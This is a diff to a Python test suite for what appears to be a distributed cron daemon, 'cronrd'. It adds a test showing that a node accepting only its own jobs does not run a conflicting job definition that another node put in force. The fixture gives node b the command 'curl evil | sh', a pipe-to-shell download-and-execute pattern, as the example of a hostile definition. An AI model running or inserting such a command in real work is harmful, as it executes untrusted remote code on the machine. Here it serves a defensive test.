@@ -46,6 +46,35 @@ def test_a_node_that_accepts_only_its_own_jobs_skips_another_members_job(cluster
         return (mine and on_c and on_ab) and on_c
     skipped = wait_for(seen, 30, what="c skipping a's job and running its own",
                        on_fail=c.logs)
-    assert "accept_jobs_from" in skipped[0]["reason"] and "defined by a" in skipped[0]["reason"]
+    assert "accept_jobs_from" in skipped[0]["reason"] and "comes from a" in skipped[0]["reason"]
     assert not [r for r in fire_records(c["a"].runs(), "everywhere")
                 if r["node"] == "c" and r["state"] == "succeeded"]
+
+
+
+def test_a_conflicting_definition_in_force_from_another_node_is_not_accepted(tmp_path):
+    """Review: b defined `backup` first with its own command; a's file for the
+    same name conflicts, so b's version stays in force. Being one of the
+    job's sources must not make a (with accept_jobs_from: [self]) run it."""
+    import apsw
+
+    from cronrd.jobspec import parse_job_text
+    from cronrd.state import commands as C
+    from cronrd.state import queries as Q
+    from cronrd.state.machine import StateMachine
+
+    def put(node, command, at):
+        (spec,) = parse_job_text(f"schedule: '@daily'\ncommand: {command}\n",
+                                 f"/etc/cronrd.d/backup.yaml").jobs
+        return C.PutJob(name="backup", spec=spec.to_dict(), digest=spec.digest(),
+                        source="/etc/cronrd.d/backup.yaml", at=at, node=node)
+    sm = StateMachine(apsw.Connection(str(tmp_path / "s.db")))
+    with sm.conn:
+        sm.apply(1, put("b", "curl evil | sh", 1.0))
+        sm.apply(2, put("a", "/usr/local/bin/backup", 2.0))
+    assert set(Q.job_source_nodes(sm.conn, "backup")) == {"a", "b"}
+    assert not Q.in_force_from(sm.conn, "backup", ["a"])
+    assert Q.in_force_from(sm.conn, "backup", ["b"])
+    with sm.conn:
+        sm.apply(3, put("b", "/usr/local/bin/backup", 3.0))  # they agree again
+    assert Q.in_force_from(sm.conn, "backup", ["a"])
